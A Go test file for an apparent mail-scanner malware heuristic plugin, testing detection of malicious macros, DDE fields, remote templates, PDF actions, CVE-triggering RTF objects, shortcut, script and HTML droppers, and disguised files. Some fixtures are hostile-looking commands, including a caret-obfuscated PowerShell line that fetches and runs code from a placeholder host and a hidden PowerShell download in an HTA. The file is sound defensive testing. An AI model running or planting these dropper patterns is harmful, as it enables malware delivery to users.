package main

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/postern-mail/postern/sdk/scanner"
)

// file is one part of a case.
type file struct {
	kind, name string
	content    string
}

// scanFiles gives the parts to the plugin: each part's parent is the one before it, or the one that it stands beside.
func scanFiles(t *testing.T, e *engine, files ...file) (found []string, report *scanner.Report) {
	t.Helper()
	m := &scanner.Message{Queries: []int{1}}
	for i, f := range files {
		p := part(f.kind, []byte(f.content))
		p.ID, p.Parent, p.Names = i, i-1, []string{f.name}
		if strings.HasPrefix(f.name, "+") { // beside the one before
			p.Parent, p.Names = i-2, []string{f.name[1:]}
		}
		if strings.HasPrefix(f.name, "=") { // in the first
			p.Parent, p.Names = 0, []string{f.name[1:]}
		}
		m.Parts = append(m.Parts, p)
	}
	report, err := e.Scan(context.Background(), m)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range report.Findings {
		if f.Kind != "virus" || f.Certainty != scanner.Possible || f.Evidence == "" {
			t.Errorf("the finding is %+v", f)
		}
	}
	return names(report), report
}

type suspectCase struct {
	why   string
	files []file
	want  string
}

func attachment(name, content string) []file { return []file{{"attachment", name, content}} }

func within(outer, outerContent, name, content string) []file {
	return []file{{"attachment", outer, outerContent}, {"member", name, content}}
}

// many is a container with a file and so many others.
func many(outer, inner file, others int) []file {
	out := []file{outer, {"member", "0.txt", "x"}, inner}
	for range others {
		out = append(out, file{"member", "=0.txt", "x"})
	}
	return out
}

func runCases(t *testing.T, cases []suspectCase) {
	t.Helper()
	e, _ := configured(t, nil)
	off, _ := configured(t, map[string]any{"heuristics": false})
	for _, c := range cases {
		got, report := scanFiles(t, e, c.files...)
		if strings.Join(got, " ") != c.want {
			t.Errorf("%s: found %q, want %q: %+v", c.why, got, c.want, report.Findings)
		}
		if got, _ := scanFiles(t, off, c.files...); len(got) > 0 {
			t.Errorf("%s: found %q, with possible detections off", c.why, got)
		}
	}
}

func TestMacros(t *testing.T) {
	const shows = "Sub %s()\r\nMsgBox \"hello\"\r\nEnd Sub\r\n"
	start := func(name, body string) string { return "Private Sub " + name + "()\r\n" + body + "\r\nEnd Sub\r\n" }
	doc := func(source string) []file {
		return attachment("a.doc", string(documentWith(source, "cache", "Module1")))
	}
	const vba = "HEUR_VBA_AUTORUN"
	runCases(t, []suspectCase{
		{"runs by itself and starts a program", doc(start("Document_Open", `Shell "notepad.exe", 1`)), vba},
		{"only shows a message", doc(strings.Replace(shows, "%s", "AutoOpen", 1)), ""},
		{"starts a program when it is asked to", doc(start("PressMe", `Shell "notepad.exe", 1`)), ""},
		{"the call in a comment", doc(start("AutoOpen", `' Shell "notepad.exe" CreateObject("WScript.Shell")`)), ""},
		{"a string in pieces over two lines", doc(start("Workbook_Open", "Set x = CreateObject(\"WScr\" & _\r\n \"ipt.Shell\")")), vba},
		{"fetches", doc(start("Auto_Open", `Set x = CreateObject("MSXML2.XMLHTTP")`)), vba},
		{"writes a file in a folder of its own", doc(start("AutoOpen", `Open Environ("TEMP") & "\a.txt" For Output As #1`)), vba},
		{"writes a file", doc(start("AutoOpen", `Open "C:\a.txt" For Output As #1`)), ""},
		{"long enough for copies over many chunks", doc(repeated("x = x + 1\r\n", 2000) + start("AutoOpen", `Shell "notepad.exe"`)), vba},
		{"the source is gone, the compiled form is not", attachment("a.doc", string(documentWith("Sub a()\r\nEnd Sub\r\n",
			"\x00powershell -c hello\x00", "\x00AutoOpen\x00Shell\x00"))), "HEUR_VBA_STOMPED"},
		{"both are there", attachment("a.doc", string(documentWith(strings.Replace(shows, "%s", "AutoOpen", 1),
			"\x00powershell -c hello\x00", "\x00AutoOpen\x00Shell\x00"))), ""},
		{"an exported module", attachment("a.bas", start("AutoOpen", `Shell "notepad.exe"`)), vba},
	})
}

func TestMacroSheets(t *testing.T) {
	const exec = "\x17\x05\x00notes\x42\x01\x6e\x00" // a string, and EXEC of it
	book := func(states string) string {
		return `<workbook><sheets><sheet name="m" sheetId="1" ` + states + `/></sheets><definedNames><definedName name="_xlnm.Auto_Open">m!$A$1</definedName></definedNames></workbook>`
	}
	sheet := func(formula string) string { return "<xm:macrosheet><c><f>" + formula + "</f></c></xm:macrosheet>" }
	xlsm := func(book, sheet string) []file {
		return []file{{"attachment", "a.xlsm", "PK\x03\x04"}, {"member", "xl/workbook.xml", book}, {"member", "+xl/macrosheets/sheet1.xml", sheet}}
	}
	runCases(t, []suspectCase{
		{"hidden, runs by itself, starts a program", attachment("a.xls", string(workbookOf(2, "Auto_Open", []byte(exec)))), "HEUR_XLM_AUTORUN"},
		{"the name is written out", attachment("a.xls", string(workbookOf(0, "auto_open_1", []byte(exec)))), "HEUR_XLM_AUTORUN"},
		{"in sight, and only runs by itself", attachment("a.xls", string(workbookOf(0, "Auto_Open", []byte("\x1e\x01\x00")))), ""},
		{"in sight, starts a program when it is asked to", attachment("a.xls", string(workbookOf(0, "Other", []byte(exec)))), ""},
		{"a new workbook", xlsm(book(`state="veryHidden"`), sheet(`EXEC("notepad")`)), "HEUR_XLM_AUTORUN"},
		{"a new workbook that shows a message", xlsm(book(""), sheet(`ALERT("hello")`)), ""},
		{"text", attachment("a.slk", "ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(\"notepad\")\nE\n"), "HEUR_XLM_AUTORUN"},
		{"a table in that text", attachment("a.slk", "ID;P\nC;X1;Y1;K\"exec(\"\nE\n"), ""},
	})
}

func TestFieldsAndRelations(t *testing.T) {
	const w = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">`
	docx := func(name, content string) []file { return within("a.docx", "PK\x03\x04", name, content) }
	relation := func(kind, target string) []file {
		return docx("word/_rels/settings.xml.rels", `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/`+kind+
			`" Target="`+target+`" TargetMode="External"/></Relationships>`)
	}
	const dde, template = "HEUR_DDE_COMMAND", "HEUR_TEMPLATE_REMOTE"
	runCases(t, []suspectCase{
		{"a field in pieces", docx("word/document.xml", w+`<w:instrText>DDE</w:instrText><w:instrText xml:space="preserve">AUTO cmd "/k notepad"</w:instrText>`), dde},
		{"a field of a workbook", docx("word/document.xml", w+`<w:instrText>DDEAUTO Excel.Sheet "C:\\a.xls" "R1C1"</w:instrText>`), ""},
		{"two fields", docx("word/document.xml", w+`<w:instrText>DDE</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>cmd /c</w:instrText>`), ""},
		{"in words", docx("word/document.xml", w+`<w:t>DDEAUTO cmd /k</w:t>`), ""},
		{"in a workbook", docx("xl/externalLinks/externalLink1.xml", `<ddeLink ddeService="cmd" ddeTopic="/c notepad"/>`), dde},
		{"prices in a workbook", docx("xl/externalLinks/externalLink1.xml", `<ddeLink ddeService="prices" ddeTopic="gold"/>`), ""},
		{"in RTF", attachment("a.rtf", `{\rtf1{\field{\*\fldinst {\b DDE}AUTO cmd "/c notepad"}}}`), dde},
		{"in a table", attachment("a.csv", "a,b\n1,=cmd|'/c notepad'!A1\n"), dde},
		{"words in a table", attachment("a.csv", "a,b\n1,cmd|/c notepad\n2,=SUM(A1)\n"), ""},
		{"a template on a server", relation("attachedTemplate", "https://a.example/t.dotm"), template},
		{"a template on a share of the net", relation("attachedTemplate", `file://a.example@80\t\t.dotm`), template},
		{"a template on a share of the house", relation("attachedTemplate", `file:///\\server\t\t.dotm`), ""},
		{"a template on disk", relation("attachedTemplate", `file:///C:\t.dotm`), ""},
		{"a link", relation("hyperlink", "https://a.example/"), ""},
		{"an object of a known exploit", relation("oleObject", "https://a.example/a.html!"), "EXPL_CVE-2022-30190"},
	})
}

func TestPDF(t *testing.T) {
	const opens = "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n"
	runCases(t, []suspectCase{
		{"starts a program", attachment("a.pdf", opens+"2 0 obj<</S/Launch/Win<</F(cmd.exe)/P(/c notepad)>>>>endobj"), "HEUR_PDF_LAUNCH"},
		{"opens another document", attachment("a.pdf", "%PDF-1.4\n2 0 obj<</S/Launch/F(other.pdf)>>endobj"), ""},
		{"a script of an exploit, with its name escaped", attachment("a.pdf", opens+"2 0 obj<</S/J#61vaScript/JS(eval(unescape('%41'));Collab.getIcon())>>endobj"), "EXPL_PDF_JAVASCRIPT"},
		{"a script in a stream", attachment("a.pdf", opens+"2 0 obj<</S/JavaScript/JS 3 0 R>>endobj\n3 0 obj<</Length 60/Filter/ASCIIHexDecode>>stream\n"+
			hex.EncodeToString([]byte("eval(unescape('%41%42')); app.launchURL('x')"))+">\nendstream endobj"), "HEUR_PDF_JAVASCRIPT"},
		{"a form that reckons", attachment("a.pdf", opens+"2 0 obj<</S/JavaScript/JS(AFNumber_Format(2, 0, 0, 0, \"\", true);)>>endobj"), ""},
	})
}

func TestRTF(t *testing.T) {
	object := func(class string, content []byte) string {
		return hex.EncodeToString(le32(0x501)) + hex.EncodeToString(le32(2)) + hex.EncodeToString(le32(len(class)+1)) + hex.EncodeToString([]byte(class+"\x00")) +
			hex.EncodeToString(make([]byte, 8)) + hex.EncodeToString(le32(len(content))) + hex.EncodeToString(content)
	}
	equation3 := object("Equation.3", equationOf("Arial"))
	runCases(t, []suspectCase{
		{"an equation that opens itself", attachment("a.rtf", `{\rtf1{\object\objupdate{\*\objdata `+equation3+`}}}`), "EXPL_CVE-2017-11882"},
		{"an equation", attachment("a.rtf", `{\rtf1{\object{\*\objdata `+equation3+`}}}`), ""},
		{"an equation with too long a font", attachment("a.rtf", `{\rtf1{\object{\*\objdata `+object("Equation.3", equationOf(repeated("A", 44)+"./x"))+`}}}`), "EXPL_CVE-2017-11882"},
		{"a header and digits that are broken", attachment("a.doc", `{\rt{\object{\*\objdata `+strings.ReplaceAll(equation3, "0", `{\x}0`)+`}}}`), "EXPL_CVE-2017-11882"},
		{"a link to an address", attachment("a.rtf", `{\rtf1{\object\objautlink\objupdate{\*\objdata `+object("OLE2Link", wide("http://a.example/"))+`}}}`), "EXPL_CVE-2017-0199"},
		{"a linked document", attachment("a.rtf", `{\rtf1{\object\objautlink{\*\objdata `+object("OLE2Link", wide(`C:\a.doc`))+`}}}`), ""},
		{"fragments without end", attachment("a.rtf", `{\rtf1{\shp{\sp{\sn pFragments}{\sv 1;1;`+repeated("41", 400)+`}}}}`), "EXPL_CVE-2010-3333"},
		{"a few fragments", attachment("a.rtf", `{\rtf1{\shp{\sp{\sn pFragments}{\sv 1;1;4141}}}}`), ""},
		{"plain", attachment("a.rtf", `{\rtf1\ansi hello}`), ""},
		{"the object alone", attachment("a.ole", string(equationOf(repeated("A", 44)+"./x"))), "EXPL_CVE-2017-11882"},
		{"the object alone, with a font", attachment("a.ole", string(equationOf("Times New Roman"))), ""},
	})
}

func TestLinks(t *testing.T) {
	const lnk = "HEUR_LNK_SHELL"
	link := func(target, arguments, icon string) []file {
		return attachment("a.lnk", string(linkOf(target, arguments, icon)))
	}
	runCases(t, []suspectCase{
		{"an encoded command", attachment("a.lnk", string(simplestSuspect())), lnk},
		{"a page", link(`..\Windows\System32\mshta.exe`, "https://a.example/x", ""), lnk},
		{"a command line", link(`..\Windows\System32\cmd.exe`, `/c p^ow^er^sh^el^l -w hid`+"den", ""), lnk},
		{"arguments out of sight", link(`..\Windows\System32\cmd.exe`, repeated(" ", 300)+"x", ""), lnk},
		{"a shell with a document", link(`..\Windows\System32\cmd.exe`, "notes.txt", ""), ""},
		{"a shell", link(`..\Windows\System32\cmd.exe`, "", ""), ""},
		{"a program with a word", link(`..\Windows\System32\notepad.exe`, "-enc VwByAGkAdABlAC0ASABvAHMA", ""), ""},
		{"a server on the net", link(`\\a.example@SSL\DavWWWRoot\x.exe`, "", `C:\Windows\System32\imageres.dll`), lnk},
		{"a shortcut to a file on a server", attachment("a.url", "[InternetShortcut]\r\nURL=file://a.example/share/x.vbs\r\n"), "HEUR_URL_REMOTE_FILE"},
		{"a shortcut to a page", attachment("a.url", "[InternetShortcut]\r\nURL=https://a.example/x.vbs\r\n"), ""},
		{"a shortcut to a document in the house", attachment("a.url", "[InternetShortcut]\r\nURL=file://server/share/x.pdf\r\n"), ""},
	})
}

func TestScripts(t *testing.T) {
	const dropper, obscure = "HEUR_SCRIPT_DROPPER", "HEUR_SCRIPT_OBFUSCATED"
	const fetch = `Set h=CreateObject("MSXML2.XMLHTTP")` + "\n" + `Set f=CreateObject("ADODB.Stream"):f.SaveToFile "a.txt"` + "\n"
	runCases(t, []suspectCase{
		{"runs what it fetches", attachment("a.vbs", `CreateObject("WScr"&"ipt.Shell").Run "notepad"`+"\n"+fetch), dropper},
		{"fetches", attachment("a.vbs", fetch), ""},
		{"runs", attachment("a.vbs", `CreateObject("WScript.Shell").Run "notepad"`), ""},
		{"of a page, with what old browsers needed", attachment("jquery.js", `window.x=function(){try{return new ActiveXObject("Microsoft.XMLHTTP")}catch(e){}};eval("1");unescape("%41");`+
			repeated(`"a"+"b",`, 60)), ""},
		{"the same for the script host", attachment("a.js", `var s=new ActiveXObject("WScript.Shell");s.Run(unescape("%41"));`+repeated(`"a"+"b",`, 60)), obscure},
		{"names made by a program", attachment("a.js", `eval(_0x1234('a'));`+repeated(`_0x12ab(0x1,0x2,0x3,0x4,`, 60)), obscure},
		{"PowerShell, hidden", attachment("a.ps1", `Start-Process a; $x=[Convert]::FromBase64String("AA"); powershell -w hidden; IEX $x`), obscure},
		{"PowerShell of an administrator", attachment("a.ps1", "Invoke-WebRequest https://a.example/x.zip -OutFile x.zip\nStart-Process notepad"), ""},
		{"in UTF-16", attachment("a.ps1", "\xff\xfe"+string(wide(`Start-Process a; $x=[Convert]::FromBase64String("AA"); powershell -w hidden; IEX $x`))), obscure},
		{"a batch with carets", attachment("a.bat", "@echo off\np^o^w^e^r^s^h^e^l^l -nop -c \"iex(iwr http://a.example/x)\"\n"), dropper},
		{"a batch", attachment("a.bat", "@echo off\ncd build\nmake all >> log.txt\n"), ""},
		{"encoded", attachment("a.vbe", "#@~^EAAAAA==hello^#~@"), "HEUR_SCRIPT_ENCODED"},
		{"an application of HTML", attachment("a.hta", `<html><hta:application><script>new ActiveXObject("WScript.Shell").Run("powershell -w hidden iwr x -outfile %temp%\\x")</script>`), dropper},
		{"text about it", attachment("a.txt", `powershell -w hidden -enc; CreateObject("WScript.Shell"); MSXML2.XMLHTTP; ADODB.Stream`), ""},
	})
}

func TestPages(t *testing.T) {
	payload := base64.StdEncoding.EncodeToString(packedBytes(1500))
	const save = `var b=new Blob([u]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="x.txt";`
	decode := `var s=atob(f);var u=new Uint8Array(s.length);`
	escaped := ""
	for _, c := range []byte(repeated("<p>hello</p>", 60)) {
		escaped += "%" + hex.EncodeToString([]byte{c})
	}
	page := func(script string) []file {
		return attachment("a.html", "<html><body><script>"+script+"</script></body></html>")
	}
	runCases(t, []suspectCase{
		{"brings a file along and saves it", page(`var f="` + payload + `";` + decode + save + "a.click();"), "HEUR_HTML_SMUGGLING"},
		{"the string in pieces", page(`var f="` + payload[:600] + `"+"` + payload[600:] + `";` + decode + save + "a.click();"), "HEUR_HTML_SMUGGLING"},
		{"saves when it is asked to", page(`var f="` + payload + `";` + decode + save), ""},
		{"saves what the user made", page(decode + save + "a.click();"), ""},
		{"brings a picture along", page(`var f="data:image/png;base64,` + payload + `";` + decode + save + "a.click();"), ""},
		{"much page and a little string", page(repeated("var x = y;\n", 5000) + `var f="` + payload + `";` + decode + save + "a.click();"), ""},
		{"nothing but a page that is decoded", page(`document.write(unescape("` + escaped + `"))`), "HEUR_HTML_ENCODED"},
		{"a short address that is decoded", page(`document.write(unescape("%3Ca%3E"))`), ""},
		{"starts programs", page(`var s=new ActiveXObject("WScript.Shell");s.Run("powershell")`), "HEUR_HTML_DROPPER"},
		{"a picture that leads elsewhere", attachment("a.svg", `<svg><script>window.location.href=atob("eA==")</script></svg>`), "HEUR_SVG_SCRIPT"},
		{"a picture that moves", attachment("a.svg", `<svg><script>document.getElementById("a").setAttribute("x", 1)</script></svg>`), ""},
		{"a picture", attachment("a.svg", `<svg><path d="M0 0"/></svg>`), ""},
	})
}

func TestPrograms(t *testing.T) {
	const run, write = canRun, canWrite
	code := sectionOf{".text", 0x1000, run, []byte(repeated("code", 300)), 0}
	data := sectionOf{".rdata", 0x4000, 0, importsOf(4), 0}
	few := sectionOf{".rdata", 0x4000, 0, importsOf(1), 0}
	packed := sectionOf{"UPX1", 0x2000, run | write, packedBytes(4096), 0}
	empty := sectionOf{"UPX0", 0x1000, run | write, nil, 0x1000 + 1}
	writable := sectionOf{".text", 0x1000, run | write, []byte(repeated("the quick brown fox ", 60)), 0}
	exe := func(p []byte) []file { return attachment("a.exe", string(p)) }
	runCases(t, []suspectCase{
		{"as linkers make it", exe(programOf(0x1000, 0x4000, code, data)), ""},
		{"packed", exe(programOf(0x2010, 0x4000, empty, packed, few)), "HEUR_PE_PACKED"},
		{"packed code that may not be written", exe(programOf(0x2010, 0x4000, sectionOf{".text", 0x2000, run, packedBytes(4096), 0}, data)), ""},
		{"code that may be written, and few libraries", exe(programOf(0x1000, 0x4000, writable, few)), ""},
		{"starts outside and needs nothing", exe(programOf(0x9000, 0, code, data)), "HEUR_PE_PACKED"},
		{"starts outside", exe(programOf(0x9000, 0x4000, code, data)), ""},
		{"cut off", exe(programOf(0x1000, 0x4000, code, data)[:200]), ""},
	})
}

func TestContainers(t *testing.T) {
	program := string(programOf(0x1000, 0x4000, sectionOf{".text", 0x1000, canRun, []byte("code"), 0}, sectionOf{".rdata", 0x4000, 0, importsOf(4), 0}))
	iso := repeated("\x00", 32769) + "CD001" + repeated("\x00", 2048)
	runCases(t, []suspectCase{
		{"a program in notes", attachment("a.one", string(noteOf("open me.exe", []byte(program)))), "HEUR_ONENOTE_EMBEDDED"},
		{"a script in notes", attachment("a.one", string(noteOf("a.hta", []byte(`<script>CreateObject("x")</script>`)))), "HEUR_ONENOTE_EMBEDDED"},
		{"a picture in notes", attachment("a.one", string(noteOf("a.png", []byte("\x89PNG\r\n\x1a\n")))), ""},
		{"a program in a document", within("a.rtf", `{\rtf1 }`, "a.exe", program), "HEUR_DOCUMENT_PROGRAM"},
		{"a program in an archive", within("a.zip", "PK\x03\x04", "a.exe", program), ""},
		{"a picture in a document", within("a.rtf", `{\rtf1 }`, "a.png", "\x89PNG\r\n\x1a\n"), ""},
		{"a program in a disk image", within("a.dat", iso, "a.exe", program), "HEUR_DISGUISED_FILE"},
		{"a program among many in a disk image", many(file{"attachment", "a.iso", iso}, file{"member", "+a.exe", program}, 20), ""},
		{"a document in a disk image", within("a.iso", iso, "a.pdf", "%PDF-1.4"), ""},
		{"two ends, alone in an archive", within("a.zip", "PK\x03\x04", "invoice.pdf.js", "x = 1"), "HEUR_DISGUISED_FILE"},
		{"two ends, one of many", []file{{"attachment", "a.zip", "PK\x03\x04"}, {"member", "readme.txt", "x"}, {"member", "+report.html.js", "x = 1"}}, ""},
		{"two ends and a program", attachment("photo.jpg.exe", program), "HEUR_DISGUISED_FILE"},
		{"one end", attachment("setup.exe", program), ""},
		{"blanks and two ends", attachment("photo.jpg"+repeated(" ", 40)+".scr", "x"), "HEUR_DISGUISED_FILE"},
		{"the direction turned, and alone", within("a.zip", "PK\x03\x04", "photo\u202egpj.scr", "x"), "HEUR_DISGUISED_FILE"},
	})
}

func TestSignsAreNeverOne(t *testing.T) {
	s := &signs{}
	s.add(9, "a heavy sign")
	if got := s.hit("HEUR_X", 2); len(got) > 0 {
		t.Errorf("one sign is %v", got)
	}
	s.add(1, "another")
	if got := s.hit("HEUR_X", 11); len(got) > 0 {
		t.Errorf("two that weigh too little are %v", got)
	}
	if got := s.hit("HEUR_X", 10); len(got) != 1 || got[0].evidence != "a heavy sign; another" {
		t.Errorf("two that weigh enough are %v", got)
	}
}

// TestDecompressVBA reads the example of MS-OVBA 3.2.2, and texts of all lengths around where the width of a copy changes.
func TestDecompressVBA(t *testing.T) {
	example, err := hex.DecodeString("012fb00023616161626364658266007061676869" + "6a0138086" + "16b6c00306d6e6f700671027004107273747576107778797a003c")
	if err != nil {
		t.Fatal(err)
	}
	if got, err := decompressVBA(example, 1000); err != nil || string(got) != "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa" {
		t.Errorf("the example is %q, %v", got, err)
	}
	for n := range 300 {
		text := repeated("Dim ab As String: ", 1)[:n%18] + string(packedBytes(n)) + repeated("ab", n)
		if got, err := decompressVBA(compressVBA(text), 1<<20); err != nil || string(got) != text {
			t.Fatalf("%d: %q, %v", n, got, err)
		}
	}
	if _, err := decompressVBA([]byte{1, 0x00, 0x00}, 10); err == nil {
		t.Error("a chunk without its mark was read")
	}
}

// TestSuspectInTime: what is not looked at is told, and is no clean bill.
func TestSuspectInTime(t *testing.T) {
	ended, stop := context.WithCancel(t.Context())
	stop()
	p := part("attachment", simplestSuspect())
	p.Names = []string{"a.lnk"}
	if hits, err := suspect(ended, readers(), &scanner.Message{Parts: []scanner.Part{p}}, &p); err == nil {
		t.Errorf("after the end, found is %v", hits)
	}
}

// TestSimplestSuspect is what the proofs build on: one file, one possible detection.
func TestSimplestSuspect(t *testing.T) {
	e, _ := configured(t, nil)
	got, report := scanFiles(t, e, attachment("invoice.lnk", string(simplestSuspect()))...)
	if len(got) != 1 || got[0] != "HEUR_LNK_SHELL" || !strings.Contains(report.Findings[0].Evidence, "encoded command") {
		t.Errorf("found %+v", report.Findings)
	}
}
